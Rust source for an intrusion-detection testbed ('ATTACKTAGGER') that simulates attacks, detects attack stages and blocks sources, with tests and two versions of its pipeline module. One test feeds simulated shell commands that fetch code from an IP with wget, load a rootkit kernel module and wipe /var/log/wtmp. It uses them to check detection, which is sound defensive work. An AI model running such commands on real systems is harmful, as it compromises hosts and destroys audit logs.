        // sessions preempted ahead of a realized damage step.
        let o = &run.eval.overall;
        assert_eq!(o.detected, o.preempted + o.late);
        assert_eq!(o.sessions, o.detected + o.missed);
        assert!(o.lead.count <= o.preempted);
        assert!(o.lead.mean_secs >= 0.0);
    }

    #[test]
    fn same_seed_same_eval_report() {
        let cfg = TestbedConfig::default();
        let a = run_campaign(&cfg, &campaign_cfg(24), detect::train::toy_training_model());
        let b = run_campaign(&cfg, &campaign_cfg(24), detect::train::toy_training_model());
        assert_eq!(a.eval, b.eval, "single seed reproduces the whole run");
        assert_eq!(a.truth, b.truth);
        let mut other = TestbedConfig::default();
        other.seed ^= 0xDEAD;
        let c = run_campaign(
            &other,
            &campaign_cfg(24),
            detect::train::toy_training_model(),
        );
        assert_ne!(a.truth, c.truth, "different seed, different campaign");
    }

    #[test]
    fn eval_report_serializes_and_tabulates() {
        let cfg = TestbedConfig::default();
        let run = run_campaign(&cfg, &campaign_cfg(16), detect::train::toy_training_model());
        let json = run.eval.to_json();
        let rendered = serde_json::to_string_pretty(&json).expect("serialize");
        for key in [
            "preemption_rate",
            "fp_per_million_background",
            "median_records",
            "overall",
        ] {
            assert!(rendered.contains(key), "missing {key}: {rendered}");
        }
        assert_eq!(
            json.get("sessions").as_f64(),
            Some(16.0),
            "session count serialized"
        );
        let table = run.eval.table();
        assert!(table.contains("overall"));
        assert!(table.contains("preempt%"));
        // PR 7's lateral-split breakdown is part of the rendered table,
        // not just the JSON.
        assert!(table.contains("split p%"));
        assert!(table.contains("unspl p%"));
        for line in table.lines().skip(1).take(run.eval.families.len() + 1) {
            assert_eq!(
                line.split_whitespace().count(),
                12,
                "every row carries the split columns: {line}"
            );
        }
    }

    #[test]
    fn decoy_detections_do_not_count_as_family_detections() {
        // All-decoy campaign: no attack sessions, so family rows are empty
        // and any notification would land in decoy/background buckets.
        let cfg = TestbedConfig::default();
        let ccfg = CampaignConfig {
            sessions: 10,
            mutation: MutationConfig {
                decoy_prob: 1.0,
                ..MutationConfig::default()
            },
            background: None,
            ..CampaignConfig::default()
        };
        let run = run_campaign(&cfg, &ccfg, detect::train::toy_training_model());
        assert_eq!(run.eval.attack_sessions, 0);
        assert_eq!(run.eval.decoy_sessions, 10);
        assert!(run.eval.families.is_empty());
        assert_eq!(
            run.eval.decoy_detections, 0,
            "benign-shaped decoys must not trip the tagger"
        );
    }

    /// The tagger's ground-truth hooks (`detected_entities` etc.) must
    /// agree with the notification stream the harness scores from: a
    /// hand-driven tagger over the same campaign latches exactly the
    /// entities the pipeline notified about.
    #[test]
    fn tagger_hooks_cross_check_notification_stream() {
        let mut rng = SimRng::seed(77);
        let campaign = generate_campaign(
            &CampaignConfig {
                sessions: 12,
                ..CampaignConfig::default()
            },
            &mut rng,
        );
        let report = PipelineBuilder::new()
            .build()
            .run_inline(campaign.records.clone());

        let mut sym = alertlib::Symbolizer::with_defaults();
        let mut filt = alertlib::ScanFilter::default();
        let mut tagger = detect::AttackTagger::new(
            detect::train::toy_training_model(),
            detect::TaggerConfig::default(),
        );
        for r in &campaign.records {
            for a in sym.symbolize(r) {
                if filt.admit(&a) {
                    tagger.observe(&a);
                }
            }
        }
        let notified: std::collections::HashSet<String> = report
            .notifications
            .iter()
            .map(|n| n.entity.clone())
            .collect();
        let latched: std::collections::HashSet<String> = tagger.detected_entities().collect();
        assert_eq!(notified, latched, "hooks and notifications must agree");
        assert!(!latched.is_empty(), "campaign must trigger detections");
        for k in &latched {
            assert!(tagger.is_detected(k));
            assert!(tagger.entity_steps(k).is_some());
        }
    }

    #[test]
    fn lead_stats_nearest_rank_small_samples() {
        // n = 0: no sample, all-zero stats (the old shared `rank` closure
        // underflowed `n - 1` here if reached).
        let s0 = LeadTimeStats::from_leads(Vec::new(), Vec::new());
        assert_eq!(s0, LeadTimeStats::default());
        assert_eq!(LeadTimeStats::rank(0, 0.5), 0, "rank total at n = 0");

        // n = 1: every percentile is the single sample.
        let s1 = LeadTimeStats::from_leads(vec![7.0], vec![3]);
        assert_eq!(s1.count, 1);
        for v in [s1.p10_secs, s1.median_secs, s1.p90_secs, s1.max_secs] {
            assert_eq!(v, 7.0);
        }
        assert_eq!(s1.median_records, 3.0);

        // n = 2: nearest-rank median is the *lower* sample (the old
        // `.round()` pulled it up to the upper), p10 lower, p90 upper.
        let s2 = LeadTimeStats::from_leads(vec![10.0, 20.0], vec![1, 5]);
        assert_eq!(s2.median_secs, 10.0);
        assert_eq!(s2.p10_secs, 10.0);
        assert_eq!(s2.p90_secs, 20.0);
        assert_eq!(s2.max_secs, 20.0);
        assert_eq!(s2.median_records, 1.0);
        assert_eq!(s2.mean_secs, 15.0);

        // n = 3: true middle median; p10 lowest, p90 highest.
        let s3 = LeadTimeStats::from_leads(vec![30.0, 10.0, 20.0], vec![9, 1, 4]);
        assert_eq!(s3.median_secs, 20.0);
        assert_eq!(s3.p10_secs, 10.0);
        assert_eq!(s3.p90_secs, 30.0);
        assert_eq!(s3.median_records, 4.0);
    }

    /// Serialized reports must never carry NaN/Inf rates: zero indicative
    /// background, zero background records, and all-decoy campaigns are
    /// the denominators that could degenerate.
    #[test]
    fn fp_rate_edge_cases_stay_finite_in_json() {
        let check = |eval: &EvalReport| {
            assert!(
                eval.fp_per_million_background.is_finite(),
                "fp/M must be finite"
            );
            assert!(eval.overall.preemption_rate.is_finite());
            let json = serde_json::to_string(&eval.to_json()).expect("serialize");
            // `serde_json::json!` maps non-finite floats to null — their
            // presence would mean a NaN/Inf sneaked into the report.
            assert!(!json.contains("null"), "no degenerate values: {json}");
            eval.to_json()
        };

        // Fully benign background: indicative_exec_fraction = 0.
        let cfg = TestbedConfig::default();
        let mut ccfg = campaign_cfg(12);
        if let Some(b) = &mut ccfg.background {
            b.indicative_exec_fraction = 0.0;
        }
        let run = run_campaign(&cfg, &ccfg, detect::train::toy_training_model());
        let json = check(&run.eval);
        assert!(json.get("fp_per_million_background").as_f64().is_some());

        // Zero background records.
        let ccfg = CampaignConfig {
            sessions: 6,
            background: None,
            ..CampaignConfig::default()
        };
        let run = run_campaign(&cfg, &ccfg, detect::train::toy_training_model());
        assert_eq!(run.eval.background_records, 0);
        assert_eq!(run.eval.fp_per_million_background, 0.0);
        check(&run.eval);

        // All-decoy campaign: no attack sessions at all (every per-family
        // denominator empty), still no background.
        let ccfg = CampaignConfig {
            sessions: 8,
            mutation: MutationConfig {
                decoy_prob: 1.0,
                ..MutationConfig::default()
            },
            background: None,
            ..CampaignConfig::default()
        };
        let run = run_campaign(&cfg, &ccfg, detect::train::toy_training_model());
        assert_eq!(run.eval.attack_sessions, 0);
        assert_eq!(run.eval.fp_per_million_background, 0.0);
        assert_eq!(run.eval.overall.preemption_rate, 0.0);
        check(&run.eval);
    }

    /// Fault accounting flows StreamReport → EvalReport → JSON, and a
    /// profile with zero sessions (faulted stream scored against empty
    /// ground truth) keeps every rate finite and the JSON null-free.
    #[test]
    fn fault_profile_breakdown_reaches_json_even_with_zero_sessions() {
        use scenario::faults::FaultPlan;
        use scenario::{record_stream, RecordStreamConfig};
        let records = record_stream(
            &RecordStreamConfig {
                scan_records: 400,
                benign_flows: 100,
                exec_records: 200,
                users: 20,
                ..RecordStreamConfig::default()
            },
            &mut SimRng::seed(11),
        );
        let report = PipelineBuilder::new()
            .faults(
                FaultPlan::clean(9)
                    .named("loss-10pct")
                    .with_loss(0.10)
                    .with_duplication(0.05),
            )
            .build()
            .run_inline(records);
        // Zero-session edge: no ground truth at all for this profile.
        let eval = evaluate_campaign(&report, &CampaignGroundTruth::default());
        assert_eq!(eval.fault_profile.as_deref(), Some("loss-10pct"));
        assert_eq!(eval.sessions, 0);
        assert_eq!(eval.overall.preemption_rate, 0.0);
        assert!(eval.fp_per_million_background.is_finite());
        assert_eq!(eval.blocks_abandoned, 0);
        let json = serde_json::to_string(&eval.to_json()).expect("serialize");
        assert!(
            !json.contains("null"),
            "zero-session profile stays finite: {json}"
        );
        assert!(json.contains("\"fault_profile\":\"loss-10pct\""));
        assert!(json.contains("duplicates_suppressed"));
        assert!(json.contains("blocks_retried"));

        // Clean runs serialize the profile as the literal "clean".
        let clean = PipelineBuilder::new()
            .build()
            .run(Vec::<telemetry::LogRecord>::new());
        let eval = evaluate_campaign(&clean, &CampaignGroundTruth::default());
        assert_eq!(eval.fault_profile, None);
        let json = serde_json::to_string(&eval.to_json()).expect("serialize");
        assert!(json.contains("\"fault_profile\":\"clean\""));
        assert!(!json.contains("null"));
    }

    #[test]
    fn eval_report_carries_dilation_and_tempo() {
        let cfg = TestbedConfig::default();
        let mut ccfg = campaign_cfg(16);
        ccfg.mutation.dilation = 4.0;
        let run = run_campaign(&cfg, &ccfg, detect::train::toy_training_model());
        assert_eq!(run.truth.dilation, 4.0);
        assert_eq!(run.eval.dilation, 4.0);
        assert!(
            run.eval.overall.mean_step_gap_secs > 0.0,
            "attack sessions have realized tempo"
        );
        // Ground-truth gap stats align with the step timeline.
        for s in run.truth.sessions.iter().filter(|s| !s.decoy) {
            assert_eq!(
                s.step_gap_secs.len(),
                s.steps.len().saturating_sub(1),
                "one gap per consecutive step pair"
            );
            assert!(s.mean_step_gap_secs() >= 0.0);
            assert!(s.max_step_gap_secs() >= s.mean_step_gap_secs());
        }
        let json = run.eval.to_json();
        assert_eq!(json.get("dilation").as_f64(), Some(4.0));
        assert!(json
            .get("overall")
            .get("mean_step_gap_secs")
            .as_f64()
            .is_some());
    }

    #[test]
    fn lateral_split_breakdown_reaches_report_and_json() {
        // Force every attack session to split across 3 entities and turn
        // the correlator on (via the tagger config, the `run_campaign`
        // path bench7 uses).
        let mut cfg = TestbedConfig::default();
        cfg.tagger.correlation = Some(detect::CorrelationPolicy::default());
        let mut ccfg = campaign_cfg(32);
        ccfg.mutation.lateral_prob = 1.0;
        ccfg.mutation.max_lateral_entities = 3;
        ccfg.mutation.decoy_prob = 0.0;
        let run = run_campaign(&cfg, &ccfg, detect::train::toy_training_model());

        let o = &run.eval.overall.lateral;
        assert!(o.split_sessions > 0, "forced lateral splits present");
        assert_eq!(
            o.split_sessions + o.unsplit_sessions,
            run.eval.attack_sessions,
            "every attack session classified split or unsplit"
        );
        assert!(o.split_preempted <= o.split_sessions);
        assert!(o.split_preemption_rate.is_finite());
        assert!(o.mean_cross_hop_lead_secs >= 0.0);
        // Ground truth carries per-step hop attribution for split sessions.
        for s in run.truth.sessions.iter().filter(|s| !s.decoy) {
            assert_eq!(s.step_entities.len(), s.steps.len());
            assert!(s.step_entities.iter().all(|&e| e < s.entity_keys.len()));
        }
        // Correlation accounting flows StreamReport → EvalReport → JSON.
        assert_eq!(
            run.eval.correlated_campaigns,
            run.stream.campaigns.len() as u64
        );
        let json = serde_json::to_string(&run.eval.to_json()).expect("serialize");
        for key in [
            "lateral_split",
            "split_preemption_rate",
            "hops_detected_before_damage",
            "mean_cross_hop_lead_secs",
            "correlated_campaigns",
            "correlated_promotions",
        ] {
            assert!(json.contains(key), "missing {key}");
        }
        assert!(!json.contains("null"), "lateral stats stay finite: {json}");

        // Without correlation the same campaign reports zero campaigns.
        let plain = run_campaign(
            &TestbedConfig::default(),
            &ccfg,
            detect::train::toy_training_model(),
        );
        assert_eq!(plain.eval.correlated_campaigns, 0);
        assert_eq!(plain.eval.correlated_promotions, 0);
    }

    #[test]
    fn empty_truth_and_empty_report_are_fine() {
        let report = PipelineBuilder::new()
            .build()
            .run(Vec::<telemetry::LogRecord>::new());
        let eval = evaluate_campaign(&report, &CampaignGroundTruth::default());
        assert_eq!(eval.sessions, 0);
        assert_eq!(eval.overall.preemption_rate, 0.0);
        assert_eq!(eval.fp_per_million_background, 0.0);
    }
}
