//! # testbed — the ATTACKTAGGER pipeline (the paper's core contribution)
//!
//! The end-to-end security testbed of Fig. 4: attacks and benign traffic
//! enter through the border (Black Hole Router filter + honeynet egress
//! firewall), monitors produce records, records are symbolized into
//! alerts, repeated scans are filtered, online detectors infer hidden
//! attack stages per entity, and detections drive response (BHR blocks +
//! operator notifications — the mechanism that preempted the §V ransomware
//! twelve days before it hit production).
//!
//! - [`config`] — one struct configuring every stage.
//! - [`pipeline`] — the in-line, closed-loop detection sink.
//! - [`testbed`] — the orchestrator wiring topology, honeynet, filters.
//! - [`streaming`] — crossbeam-threaded stage pipeline for throughput.
//! - [`report`] — run reports and operator notifications.
//!
//! ## Example
//! ```
//! use testbed::prelude::*;
//! use simnet::prelude::*;
//!
//! let mut tb = Testbed::new(TestbedConfig::default());
//! let t = tb.config().start + SimDuration::from_secs(1);
//! let probe = Flow::probe(
//!     FlowId(1), t,
//!     "103.102.8.9".parse().unwrap(),
//!     "141.142.2.1".parse().unwrap(),
//!     22,
//! );
//! tb.schedule(vec![(t, Action::Flow(probe))]);
//! let report = tb.run();
//! assert_eq!(report.actions, 1);
//! ```

pub mod config;
pub mod pipeline;
pub mod report;
pub mod streaming;
pub mod testbed;

pub use config::TestbedConfig;
pub use pipeline::PipelineSink;
pub use report::{OperatorNotification, RunReport};
pub use streaming::{process_records, StreamStats};
pub use testbed::{FilterChain, Testbed};

/// Common imports for testbed users.
pub mod prelude {
    pub use crate::config::TestbedConfig;
    pub use crate::report::{OperatorNotification, RunReport};
    pub use crate::testbed::Testbed;
}
