//! # testbed — the ATTACKTAGGER pipeline (the paper's core contribution)
//!
//! The end-to-end security testbed of Fig. 4: attacks and benign traffic
//! enter through the border (Black Hole Router filter + honeynet egress
//! firewall), monitors produce records, records are symbolized into
//! alerts, repeated scans are filtered, online detectors infer hidden
//! attack stages per entity, and detections drive response (BHR blocks +
//! operator notifications — the mechanism that preempted the §V ransomware
//! twelve days before it hit production).
//!
//! - [`config`] — one struct configuring every stage, including the
//!   pipeline batching / capacity / sharding knobs.
//! - [`stage`] — **the composable stage API**: the [`Stage`](stage::Stage)
//!   trait, adapters for every Fig. 4 component,
//!   [`PipelineBuilder`](stage::PipelineBuilder), and the inline /
//!   threaded / sharded executors. Both deployments below are thin
//!   wrappers over it.
//! - [`pipeline`] — the in-line, closed-loop detection sink.
//! - [`testbed`] — the orchestrator wiring topology, honeynet, filters.
//! - [`streaming`] — record-driven runs for throughput
//!   (compatibility entry point [`process_records`]).
//! - [`eval`] — the preemption evaluation harness: scores any executor's
//!   run of an adversarial [`scenario::mutate`] campaign against ground
//!   truth (preemption rate, lead-time distributions, per-family TP/FN,
//!   FP rate per million background records).
//! - [`report`] — run reports and operator notifications.
//! - [`service`] — the always-on multi-tenant daemon:
//!   [`ServiceHandle`](service::ServiceHandle) with per-tenant scoped
//!   interning, backpressure-aware ingestion, and JSON snapshot/restore
//!   that survives restarts without losing detections.
//!
//! ## Example
//! ```
//! use testbed::prelude::*;
//! use simnet::prelude::*;
//!
//! let mut tb = Testbed::new(TestbedConfig::default());
//! let t = tb.config().start + SimDuration::from_secs(1);
//! let probe = Flow::probe(
//!     FlowId(1), t,
//!     "103.102.8.9".parse().unwrap(),
//!     "141.142.2.1".parse().unwrap(),
//!     22,
//! );
//! tb.schedule(vec![(t, Action::Flow(probe))]);
//! let report = tb.run();
//! assert_eq!(report.actions, 1);
//! ```
//!
//! ## Stream example (builder API)
//! ```
//! use testbed::prelude::*;
//!
//! let report = PipelineBuilder::new()
//!     .executor(ExecutorKind::Sharded)
//!     .batch_size(128)
//!     .build()
//!     .run(Vec::<telemetry::LogRecord>::new());
//! assert_eq!(report.stats.records, 0);
//! ```

pub mod adapt;
pub mod config;
pub mod eval;
pub mod pipeline;
pub mod report;
pub mod service;
pub mod stage;
pub mod streaming;
pub mod testbed;

pub use adapt::{
    learning_curve, run_reactive_campaign, worst_case_frontier, FrontierConfig, FrontierPoint,
    LearningPoint, ReactiveRun,
};
pub use config::{ExecutorKind, PipelineTuning, TestbedConfig};
pub use eval::{evaluate_campaign, run_campaign, CampaignRun, EvalReport, FamilyEval};
pub use pipeline::PipelineSink;
pub use report::{OperatorNotification, RunReport};
pub use service::{ServiceConfig, ServiceError, ServiceHandle, ServiceSnapshot};
pub use stage::{BuiltPipeline, PipelineBuilder, Stage, StreamReport};
pub use streaming::{process_records, StreamStats};
pub use testbed::{FilterChain, Testbed};

/// Common imports for testbed users.
pub mod prelude {
    pub use crate::config::{ExecutorKind, PipelineTuning, TestbedConfig};
    pub use crate::eval::{evaluate_campaign, run_campaign, CampaignRun, EvalReport};
    pub use crate::report::{OperatorNotification, RunReport};
    pub use crate::service::{ServiceConfig, ServiceError, ServiceHandle, ServiceSnapshot};
    pub use crate::stage::{BuiltPipeline, PipelineBuilder, StreamReport};
    pub use crate::streaming::StreamStats;
    pub use crate::testbed::Testbed;
}
