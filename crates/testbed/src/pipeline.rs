//! The in-line detection pipeline (Fig. 4).
//!
//! [`PipelineSink`] plugs into the simulation engine as an [`ActionSink`]:
//! for every action it runs monitors → symbolization → repeated-scan
//! filter → online detectors, and on a detection executes the response —
//! blocking the attacker source at the BHR and notifying operators. The
//! BHR handle is shared with the border filter, so a block takes effect on
//! the *next* flow from that source: a genuinely closed loop.
//!
//! Since the stage-API redesign the sink is a thin adapter: the stage
//! chain itself lives in [`crate::stage`] (shared with the streaming
//! executors) and is assembled by
//! [`PipelineBuilder`](crate::stage::PipelineBuilder); the sink merely
//! feeds it one action's records at a time under the engine's live
//! [`EventCtx`].

use alertlib::alert::Alert;
use alertlib::filter::ScanFilter;
use alertlib::symbolize::Symbolizer;
use bhr::api::BhrHandle;
use detect::attack_tagger::AttackTagger;
use simnet::action::Action;
use simnet::engine::{ActionSink, EventCtx};
use simnet::event::EventQueue;
use simnet::time::SimDuration;
use telemetry::monitor::Monitor;
use telemetry::record::LogRecord;

use crate::report::RunReport;
use crate::stage::adapters::MonitorStage;
use crate::stage::builder::{BuiltPipeline, PipelineBuilder};
use crate::stage::executor::InlineCore;

/// The closed-loop pipeline sink: stage counters + the detection loop.
pub struct PipelineSink {
    monitors: MonitorStage,
    core: InlineCore,
    pub report: RunReport,
    // Reused scratch buffer (alloc-free steady state).
    records_scratch: Vec<LogRecord>,
}

impl PipelineSink {
    /// Compatibility constructor mirroring the pre-redesign signature;
    /// equivalent to assembling the same stages with
    /// [`PipelineBuilder`] and calling
    /// [`build_sink`](PipelineBuilder::build_sink).
    pub fn new(
        monitors: Vec<Box<dyn Monitor>>,
        symbolizer: Symbolizer,
        filter: ScanFilter,
        tagger: AttackTagger,
        bhr: BhrHandle,
        block_on_detection: bool,
        detection_block_ttl: Option<SimDuration>,
    ) -> PipelineSink {
        PipelineBuilder::new()
            .symbolizer(symbolizer)
            .filter(filter)
            .tagger(tagger)
            .bhr(bhr)
            .block_on_detection(block_on_detection, detection_block_ttl)
            .build_sink(monitors)
    }

    pub(crate) fn from_built(monitors: MonitorStage, built: BuiltPipeline) -> PipelineSink {
        PipelineSink {
            monitors,
            core: InlineCore::new(built),
            report: RunReport::default(),
            records_scratch: Vec::with_capacity(8),
        }
    }

    /// The shared BHR handle (also used by the border filter).
    pub fn bhr(&self) -> &BhrHandle {
        self.core.response.bhr()
    }

    /// Post-filter alerts retained for analysis (capped drop-oldest; see
    /// [`AlertRetention`](crate::stage::AlertRetention) and the
    /// `alert_retention` tuning knob).
    pub fn retained_alerts(&self) -> impl Iterator<Item = &Alert> {
        self.core.retention.iter()
    }

    /// Alerts not retained because the retention cap was exceeded.
    pub fn alerts_dropped(&self) -> u64 {
        self.core.retention.dropped()
    }

    /// Alerts not retained because retention is disabled (cap 0).
    pub fn alerts_discarded(&self) -> u64 {
        self.core.retention.discarded()
    }

    /// Finalize counters into the report (router stats are filled by the
    /// caller who owns the engine).
    pub fn finish(&mut self) -> RunReport {
        self.report.records = self.core.stats.records;
        self.report.alerts = self.core.stats.alerts;
        self.report.alerts_filtered = self.core.stats.admitted;
        self.report.detections = self.core.stats.detections;
        self.report
            .notifications
            .append(&mut self.core.notifications);
        self.report.filter = self.core.filter.stats();
        self.report.bhr = self.bhr().stats();
        self.report.blocked_sources = self.core.response.blocked_sources();
        self.report.alerts_dropped = self.core.retention.dropped();
        self.report.alerts_discarded = self.core.retention.discarded();
        self.report.clone()
    }
}

impl ActionSink for PipelineSink {
    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, _queue: &mut EventQueue<Action>) {
        self.report.actions += 1;
        self.records_scratch.clear();
        self.monitors
            .observe(ctx, action, &mut self.records_scratch);
        // Responses (block install time, TTL anchor, notification time)
        // are stamped with the engine's event time, exactly as the
        // pre-redesign sink did.
        self.core
            .process_records_at(Some(ctx.time), &self.records_scratch);
        // Mirror the core counters so the public `report` stays live
        // mid-run, as it always was.
        self.report.records = self.core.stats.records;
        self.report.alerts = self.core.stats.alerts;
        self.report.alerts_filtered = self.core.stats.admitted;
        self.report.detections = self.core.stats.detections;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::filter::FilterConfig;
    use alertlib::symbolize::SymbolizerConfig;
    use detect::attack_tagger::TaggerConfig;
    use detect::train::toy_training_model;
    use simnet::engine::Engine;
    use simnet::flow::{Flow, FlowId};
    use simnet::time::SimTime;
    use simnet::topology::NcsaTopologyBuilder;
    use telemetry::hostmon::HostMonitor;
    use telemetry::zeek::ZeekMonitor;

    fn sink() -> PipelineSink {
        PipelineSink::new(
            vec![
                Box::new(ZeekMonitor::with_defaults()),
                Box::new(HostMonitor::new()),
            ],
            Symbolizer::new(SymbolizerConfig::default()),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            BhrHandle::new(),
            true,
            None,
        )
    }

    #[test]
    fn scan_flood_is_filtered_not_detected() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..500u64 {
            let t = SimTime::from_secs(i);
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "103.102.1.1".parse().unwrap(),
                    format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.actions, 500);
        assert!(report.alerts >= 500, "each probe symbolizes");
        assert!(
            report.alerts_filtered < 20,
            "scan flood must collapse: {}",
            report.alerts_filtered
        );
        assert_eq!(
            report.detections, 0,
            "scans alone must not trigger preemption"
        );
        assert_eq!(
            s.retained_alerts().count() as u64 + s.alerts_dropped(),
            report.alerts_filtered,
            "retention accounts for every admitted alert"
        );
    }

    #[test]
    fn detection_blocks_source_at_bhr() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // A malicious host session: process records that symbolize into the
        // S1 chain for one user.
        let host = simnet::topology::HostId(0);
        let cmds = [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod rootkit.ko",
            "echo 0>/var/log/wtmp",
        ];
        for (i, c) in cmds.iter().enumerate() {
            engine.schedule(
                SimTime::from_secs(10 + i as u64 * 60),
                Action::Exec(simnet::action::ExecAction {
                    host,
                    user: "eve".into(),
                    pid: 100 + i as u32,
                    ppid: 1,
                    exe: "/bin/sh".into(),
                    cmdline: c.to_string(),
                }),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.detections, 1, "S1 chain must be detected once");
        assert_eq!(report.notifications.len(), 1);
        let n = &report.notifications[0];
        assert!(n.message.contains("preemption"));
        // Host-only alerts carry no src address, so no block is installed —
        // but the notification still fires.
        assert_eq!(report.blocked_sources, 0);
    }

    #[test]
    fn network_detection_installs_block() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // Outbound C2-ish: configure symbolizer with a C2 feed.
        let mut cfg = SymbolizerConfig::default();
        cfg.c2_addresses.insert("194.145.22.33".parse().unwrap());
        let mut s = PipelineSink::new(
            vec![Box::new(ZeekMonitor::with_defaults())],
            Symbolizer::new(cfg),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            BhrHandle::new(),
            true,
            None,
        );
        // Repeated C2 beacons from one internal source push its entity
        // posterior over the threshold.
        for i in 0..6u64 {
            let t = SimTime::from_secs(i * 30);
            engine.schedule(
                t,
                Action::Flow(Flow::established(
                    FlowId(i),
                    t,
                    simnet::time::SimDuration::from_secs(2),
                    "141.142.77.10".parse().unwrap(),
                    40_000,
                    "194.145.22.33".parse().unwrap(),
                    443,
                    2_000,
                    500,
                )),
            );
        }
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.detections >= 1, "beaconing must be detected");
        assert_eq!(report.blocked_sources, 1);
        assert!(s
            .bhr()
            .is_blocked(SimTime::from_secs(600), "141.142.77.10".parse().unwrap()));
    }

    #[test]
    fn retention_cap_bounds_sink_memory() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..50u64 {
            let t = SimTime::from_secs(i * 3600);
            // Distinct sources so the scan filter admits each probe.
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    format!("103.{}.1.1", 1 + i).parse().unwrap(),
                    "141.142.2.7".parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = PipelineBuilder::new()
            .alert_retention(5)
            .build_sink(vec![Box::new(ZeekMonitor::with_defaults())]);
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.alerts_filtered >= 50);
        assert_eq!(s.retained_alerts().count(), 5, "cap enforced");
        assert_eq!(report.alerts_dropped, report.alerts_filtered - 5);
    }
}
