//! The in-line detection pipeline (Fig. 4).
//!
//! [`PipelineSink`] plugs into the simulation engine as an [`ActionSink`]:
//! for every action it runs monitors → symbolization → repeated-scan
//! filter → online detectors, and on a detection executes the response —
//! blocking the attacker source at the BHR and notifying operators. The
//! BHR handle is shared with the border filter, so a block takes effect on
//! the *next* flow from that source: a genuinely closed loop.

use alertlib::alert::Alert;
use alertlib::filter::ScanFilter;
use alertlib::symbolize::Symbolizer;
use bhr::api::BhrHandle;
use detect::attack_tagger::AttackTagger;
use simnet::action::Action;
use simnet::engine::{ActionSink, EventCtx};
use simnet::event::EventQueue;
use simnet::rng::FxHashSet;
use simnet::time::SimDuration;
use telemetry::monitor::Monitor;
use telemetry::record::LogRecord;

use crate::report::{OperatorNotification, RunReport};

/// The pipeline stage counters + the detection loop.
pub struct PipelineSink {
    monitors: Vec<Box<dyn Monitor>>,
    symbolizer: Symbolizer,
    filter: ScanFilter,
    tagger: AttackTagger,
    bhr: BhrHandle,
    block_on_detection: bool,
    detection_block_ttl: Option<SimDuration>,
    blocked: FxHashSet<std::net::Ipv4Addr>,
    pub report: RunReport,
    /// Retain filtered alerts for post-run analysis (bounded by caller's
    /// workload size; disable for the 25 M-alert streaming experiments).
    pub keep_alerts: bool,
    pub alerts: Vec<Alert>,
    // Reused scratch buffers (alloc-free steady state).
    records_scratch: Vec<LogRecord>,
    alerts_scratch: Vec<Alert>,
}

impl PipelineSink {
    pub fn new(
        monitors: Vec<Box<dyn Monitor>>,
        symbolizer: Symbolizer,
        filter: ScanFilter,
        tagger: AttackTagger,
        bhr: BhrHandle,
        block_on_detection: bool,
        detection_block_ttl: Option<SimDuration>,
    ) -> PipelineSink {
        PipelineSink {
            monitors,
            symbolizer,
            filter,
            tagger,
            bhr,
            block_on_detection,
            detection_block_ttl,
            blocked: FxHashSet::default(),
            report: RunReport::default(),
            keep_alerts: true,
            alerts: Vec::new(),
            records_scratch: Vec::with_capacity(8),
            alerts_scratch: Vec::with_capacity(8),
        }
    }

    /// The shared BHR handle (also used by the border filter).
    pub fn bhr(&self) -> &BhrHandle {
        &self.bhr
    }

    /// Finalize counters into the report (router stats are filled by the
    /// caller who owns the engine).
    pub fn finish(&mut self) -> RunReport {
        self.report.filter = self.filter.stats();
        self.report.bhr = self.bhr.stats();
        self.report.blocked_sources = self.blocked.len() as u64;
        self.report.clone()
    }
}

impl ActionSink for PipelineSink {
    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, _queue: &mut EventQueue<Action>) {
        self.report.actions += 1;
        // Stage 1: monitors.
        self.records_scratch.clear();
        for m in &mut self.monitors {
            m.observe(ctx, action, &mut self.records_scratch);
        }
        self.report.records += self.records_scratch.len() as u64;
        // Stage 2: symbolization.
        self.alerts_scratch.clear();
        for r in &self.records_scratch {
            self.symbolizer.symbolize_into(r, &mut self.alerts_scratch);
        }
        self.report.alerts += self.alerts_scratch.len() as u64;
        // Stage 3: repeated-scan filter + online detection + response.
        for alert in self.alerts_scratch.drain(..) {
            if !self.filter.admit(&alert) {
                continue;
            }
            self.report.alerts_filtered += 1;
            if let Some(detection) = self.tagger.observe(&alert) {
                self.report.detections += 1;
                // Response and remediation (Fig. 4 part b).
                if self.block_on_detection {
                    if let Some(src) = alert.src {
                        if self.blocked.insert(src) {
                            self.bhr.block(
                                ctx.time,
                                src,
                                format!("detector: {} at {}", detection.trigger, detection.stage),
                                self.detection_block_ttl,
                            );
                        }
                    }
                }
                self.report.notifications.push(OperatorNotification {
                    ts: ctx.time,
                    entity: alert.entity.clone(),
                    detection: detection.clone(),
                    message: format!(
                        "preemption: {} reached stage '{}' (p={:.2}) on alert {}",
                        alert.entity, detection.stage, detection.score, detection.trigger
                    ),
                    source: "attack-tagger".into(),
                });
            }
            if self.keep_alerts {
                self.alerts.push(alert);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::filter::FilterConfig;
    use alertlib::symbolize::SymbolizerConfig;
    use detect::attack_tagger::TaggerConfig;
    use detect::train::toy_training_model;
    use simnet::engine::Engine;
    use simnet::flow::{Flow, FlowId};
    use simnet::time::SimTime;
    use simnet::topology::NcsaTopologyBuilder;
    use telemetry::hostmon::HostMonitor;
